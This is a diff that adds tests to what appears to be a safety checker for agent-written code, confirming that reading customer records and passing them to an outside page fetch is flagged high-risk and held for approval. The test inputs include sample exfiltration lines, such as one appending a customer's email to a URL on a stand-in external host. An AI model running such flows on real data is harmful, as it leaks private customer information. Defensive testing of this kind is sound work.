@@ -191,3 +191,36 @@ async def test_skills_nested_too_deeply_to_be_read_are_asked_about(core):
     verdict = assess_all("from skills.deep_1 import deep_1\ndeep_1()", (), skills)
     assert (verdict.gate, verdict.risk) == (Gate.ASK, Risk.HIGH)
     assert "too deeply to be read" in verdict.sentence
+
+
+PAGES = """\
+from servers.demo import fetch_page
+
+
+async def page(url):
+    return await fetch_page(url=url)
+"""
+READS = "from servers.demo import list_customers\nrows = (await list_customers(limit=1))['customers']\n"
+
+
+async def test_private_data_and_a_skill_that_reaches_outside_ask_together(demo):
+    keep(demo, "page", PAGES)
+    alone = await demo.conveyor.assess("from skills.page import page\nawait page('https://prices.example/paper')")
+    assert (alone.risk, alone.gate, alone.may_carry) == (Risk.LOW, Gate.AUTO, ("demo.fetch_page",))
+    code = READS + "import skills.page as p\nawait p.page('https://m.example/' + rows[0]['email'])"
+    verdict = await demo.conveyor.assess(code)
+    assert (verdict.risk, verdict.gate) == (Risk.HIGH, Gate.ASK)
+    (found,) = [finding for finding in verdict.findings if finding.rule == "flow.unclear"]
+    assert found.message.startswith("Whether data from demo.list_customers goes to demo.fetch_page cannot be read")
+
+
+async def test_a_skill_that_reads_private_data_and_a_program_that_reaches_outside_ask_together(demo):
+    keep(
+        demo,
+        "rows",
+        "from servers.demo import list_customers\n\n\nasync def rows():\n    return await list_customers()\n",
+    )
+    calls = "r = await rows()\nawait fetch_page(url=str(r))"
+    code = f"from skills.rows import rows\nfrom servers.demo import fetch_page\n{calls}"
+    verdict = await demo.conveyor.assess(code)
+    assert (verdict.risk, verdict.gate) == (Risk.HIGH, Gate.ASK)
